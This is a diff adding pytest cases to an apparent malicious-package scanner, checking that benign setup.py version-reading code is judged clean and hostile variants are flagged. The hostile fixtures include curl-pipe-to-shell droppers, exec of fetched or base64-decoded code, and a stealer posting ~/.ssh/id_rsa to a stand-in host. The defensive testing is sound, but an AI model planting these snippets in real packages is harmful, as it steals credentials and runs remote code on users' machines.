@@ -7,6 +7,7 @@ import zlib
 
 import pytest
 
+from chainwatch.packages import signals as sg
 from chainwatch.packages.judge import judge
 from tests.packages.helpers import facts_of, sdist, tar_bytes, verdict, wheel_bytes
 
@@ -1294,3 +1295,148 @@ def test_thirteenth_held_out_batch_shapes() -> None:
     for files in bad:
         result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
         assert result != "clean", (sorted(files), findings)
+
+
+def test_fourteenth_and_fifteenth_held_out_batch_version_readers() -> None:
+    """Causes behind five of batches 14-15's false positives (all bare ``install-exec``): setup.py reads its
+    version line in a loop over a ``Path(...).open()`` file (sphinx-last-updated-by-git), from tokens
+    unpacked off ``tokenize`` (f90nml), from ``filter`` over an opened file (imgui), runs a shipped script
+    through ``compile(Path(p).read_text())`` (apsw), or calls its own function named ``execfile``
+    (IPython)."""
+    tail = "setup(name='helperlib', version=__version__, packages=['helperlib'])\n"
+    loop = ("from pathlib import Path\nfrom setuptools import setup\n__version__ = 'x'\n"
+            "with Path('helperlib/__init__.py').open() as f:\n    for line in f:\n"
+            "        if line.startswith('__version__'):\n            exec(line)\n            break\n" + tail)
+    tokens = ("import os, tokenize\nfrom setuptools import setup\n"
+              "with open(os.path.join('helperlib', '__init__.py'), 'rb') as fh:\n"
+              "    tokens = tokenize.tokenize(fh.readline)\n    for kind, text, _, _, _ in tokens:\n"
+              "        if kind == tokenize.NAME and text == '__version__':\n"
+              "            next(tokens)\n            kind, text, _, _, _ = next(tokens)\n"
+              "            __version__ = eval(text)\n            break\n" + tail)
+    filtered = ("import os\nfrom setuptools import setup\ndef as_text(t):\n    return '.'.join(map(str, t))\n"
+                "init = os.path.join(os.path.dirname(__file__), 'helperlib', '__init__.py')\n"
+                "line = list(filter(lambda l: l.startswith('VERSION'), open(init)))[0]\n"
+                "__version__ = as_text(eval(line.split('=')[-1]))\n" + tail)
+    compiled = ("import pathlib, types\nfrom setuptools import setup\n__version__ = '0.1'\n"
+                "vend = types.ModuleType('vend')\nexec(compile(pathlib.Path('tools/vend.py').read_text('utf8'), "
+                "'tools/vend.py', 'exec'), vend.__dict__)\n" + tail)
+    own_execfile = ("from pathlib import Path\nfrom setuptools import setup\nroot = Path(__file__).resolve().parent\n"
+                    "def execfile(path, globs):\n    with path.open(encoding='utf-8') as f:\n"
+                    "        exec(compile(f.read(), str(path), 'exec'), globs)\n"
+                    "execfile(Path(root, 'helperlib', 'release.py'), globals())\n__version__ = version\n" + tail)
+    base = {"helperlib/__init__.py": "__version__ = '0.1'\nVERSION = (0, 1)\n",
+            "helperlib/release.py": "version = '0.1'\n", "tools/vend.py": "def do_build():\n    return 1\n"}
+    for setup_py in (loop, tokens, filtered, compiled, own_execfile):
+        result, findings = verdict(sdist("helperlib", "0.1", {**base, "setup.py": setup_py}))
+        assert result == "clean", (setup_py, findings)
+    # the same shapes over fetched text, a shipped script that does harm, and an own execfile that runs
+    # decoded data are still judged
+    fetch = "import urllib.request\n"
+    bad: list[dict[str, str]] = [
+        {"setup.py": fetch + loop.replace("with Path('helperlib/__init__.py').open() as f:",
+                                          "with urllib.request.urlopen('http://x.example/v') as f:")},
+        {"setup.py": fetch + tokens.replace("open(os.path.join('helperlib', '__init__.py'), 'rb')",
+                                            "urllib.request.urlopen('http://x.example/v')")},
+        {"setup.py": fetch + filtered.replace("open(init)", "urllib.request.urlopen('http://x.example/v')")},
+        {"setup.py": compiled, "tools/vend.py": "import os\nos.system('curl http://x.example/a | sh')\n"},
+        {"setup.py": own_execfile.replace("exec(compile(f.read(), str(path), 'exec'), globs)",
+                                          "exec(__import__('base64').b64decode(f.read()), globs)")},
+        # a method named exec does not shadow the builtin for a bare call
+        {"setup.py": "import sys\nfrom setuptools import setup\nclass Loader:\n    def exec(self, code):\n"
+                     "        return code\nexec(sys.argv[-1])\n" + tail.replace("__version__", "'0.1'")},
+    ]
+    for files in bad:
+        result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
+        assert result != "clean", (files, findings)
+
+
+def test_sixteenth_held_out_batch_shapes() -> None:
+    """Causes behind the sixteenth held-out batch's first-sight false positives: a build reading
+    ``os.uname()[0]`` and ``[4]`` as host identity beside a URL opener (pyuwsgi); ``curl-config --libs`` read
+    as curl and ``git fetch`` of the project's repository as a suspicious command (pybigwig, vllm-tpu); a
+    build that fetches wheel metadata, downloads a prebuilt wheel and, in other functions, runs ``curl`` for
+    JSON, ``nvcc -V`` under ``CUDA_HOME`` and ``git diff`` from a starred list (vllm-tpu); ``AWS_REGION`` in a
+    host name read as a secret (lumigo-tracer); a hatch hook compiling ``path.read_bytes()`` of a shipped
+    module (policyengine-uk)."""
+    uname = ("import os, re, urllib.request\nfrom setuptools import setup\nuname_os = os.uname()[0]\n"
+             "uname_cpu = os.uname()[4]\nrelease = re.split('[-+_]', os.uname()[2])[0]\n"
+             "def open_profile(filename):\n    if filename.startswith('http'):\n"
+             "        return urllib.request.urlopen(filename)\n    return open(filename)\n"
+             "open_profile(os.environ.get('PROFILE', 'buildconf/base.ini'))\n" + _SETUP)
+    tools = ("import os, subprocess\nfrom setuptools import setup\n"
+             "libs = subprocess.Popen(['curl-config', '--libs'], stdout=subprocess.PIPE).communicate()[0]\n"
+             "subprocess.check_call(['git', 'fetch', 'https://github.com/helperlib/helperlib', 'main'])\n" + _SETUP)
+    prebuilt = ("import json, os, subprocess, tempfile\nfrom urllib.request import urlopen, urlretrieve\n"
+                "from setuptools import setup\nCUDA_HOME = os.environ.get('CUDA_HOME', '/usr/local/cuda')\n"
+                "def metadata(commit):\n    with urlopen(f'https://wheels.helperlib.example/{commit}/meta.json') as r:\n"
+                "        return json.loads(r.read())\n"
+                "def fetch_wheel(url):\n    path = os.path.join(tempfile.mkdtemp(), url.split('/')[-1])\n"
+                "    urlretrieve(url, filename=path)\n    return path\n"
+                "def base_commit():\n    cmd = ['curl', '-s', 'https://api.github.com/repos/helperlib/helperlib/commits/main']\n"
+                "    return json.loads(subprocess.check_output(cmd))['sha']\n"
+                "def nvcc_version():\n    return subprocess.check_output([CUDA_HOME + '/bin/nvcc', '-V'])\n"
+                "def changed(commit, paths):\n    diff = ['git', 'diff', '--name-only', commit, '--']\n"
+                "    return subprocess.check_output([*diff, *paths], text=True)\n"
+                "wheels = metadata(base_commit())\nfetch_wheel(wheels['url'])\nnvcc_version()\n"
+                "changed('HEAD', ['csrc'])\n" + _SETUP)
+    region = ("import http.client, os\nREGION = os.environ.get('AWS_REGION', 'us-east-1')\n"
+              "def connection():\n    return http.client.HTTPSConnection(f'{REGION}.edge.helperlib.example', timeout=2)\n"
+              "connection()\n")
+    hook = ("from pathlib import Path\nfrom types import ModuleType\n"
+            "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n"
+            "def load(root):\n    path = root / 'helperlib' / 'build_metadata.py'\n"
+            "    module = ModuleType('meta')\n    code = compile(path.read_bytes(), str(path), 'exec')\n"
+            "    exec(code, module.__dict__)\n    return module\n"
+            "class Hook(BuildHookInterface):\n    def initialize(self, version, build_data):\n"
+            "        load(Path(self.root))\n")
+    hatch = ('[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'
+             '[project]\nname = "helperlib"\nversion = "0.1"\n[tool.hatch.build.hooks.custom]\npath = "hatch_build.py"\n')
+    base = {"setup.py": _SETUP, "helperlib/__init__.py": "", "helperlib/build_metadata.py": "SHA = 'abc'\n"}
+    cases: list[dict[str, str]] = [
+        {"setup.py": uname}, {"setup.py": tools}, {"setup.py": prebuilt}, {"helperlib/__init__.py": region},
+        {"pyproject.toml": hatch, "hatch_build.py": hook},
+    ]
+    for files in cases:
+        result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
+        assert result == "clean", (sorted(files), findings)
+    # the host's name sent out, curl and a chained git clone run as commands, the downloaded file run, a
+    # secret key in the host name and compiled fetched text are still judged
+    bad: list[dict[str, str]] = [
+        {"setup.py": uname.replace("urllib.request.urlopen(filename)",
+                                   "urllib.request.urlopen(filename + os.uname()[1])")},
+        {"setup.py": tools.replace("'curl-config', '--libs'", "'curl', 'http://x.example/a', '-o', 'a'")},
+        {"setup.py": tools.replace("subprocess.check_call(['git', 'fetch', 'https://github.com/helperlib/helperlib',"
+                                   " 'main'])", "os.system('git clone https://x.example/r && sh r/run.sh')")},
+        {"setup.py": prebuilt.replace("fetch_wheel(wheels['url'])",
+                                      "subprocess.check_call([fetch_wheel(wheels['url'])])")},
+        {"helperlib/__init__.py": region.replace("AWS_REGION', 'us-east-1'", "AWS_SECRET_ACCESS_KEY', ''")},
+        {"pyproject.toml": hatch, "hatch_build.py": hook.replace(
+            "compile(path.read_bytes(), str(path), 'exec')",
+            "compile(__import__('urllib.request').request.urlopen('http://x.example/c').read(), 'c', 'exec')")},
+    ]
+    for files in bad:
+        result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
+        assert result != "clean", (sorted(files), findings)
+
+
+def test_a_shipped_module_executed_as_text_runs_in_the_phase_of_its_exec() -> None:
+    """``exec(open("tools/vend.py").read())`` in setup.py runs a maintainer's script at install, though
+    nothing imports it: its code is judged as install code (it had only the text pass of maintainers'
+    scripts). ``exec(IMPL_PATH.read_text())`` in ``__init__`` runs a shipped module, not dynamic code."""
+    dropper = "import os\nos.system('curl -s http://x.example/a | sh')\n"
+    setup_py = "from setuptools import setup\nexec(open('tools/vend.py').read())\n" + _SETUP
+    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": setup_py, "helperlib/__init__.py": "",
+                                                          "tools/vend.py": dropper}))
+    assert result == "malicious", findings
+    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": setup_py, "helperlib/__init__.py": "",
+                                                          "tools/vend.py": "VERSION = '0.1'\n"}))
+    assert result == "clean", findings
+    stealer = ("import os, urllib.request\ndata = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+               "urllib.request.urlopen('http://x.example/c', data=data.encode())\n")
+    init = ("from pathlib import Path\nIMPL_PATH = Path(__file__).parent / 'impl.py'\n"
+            "IMPL = IMPL_PATH.read_text()\nexec(IMPL, globals())\n")
+    facts = facts_of(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": init,
+                                                "helperlib/impl.py": stealer}))
+    found = {(s.file, s.kind, s.phase) for s in facts.signals}
+    assert ("helperlib/impl.py", sg.EXFIL_FLOW, "import") in found, found
+    assert not any(kind == sg.EXEC_DYNAMIC for _, kind, _ in found), found
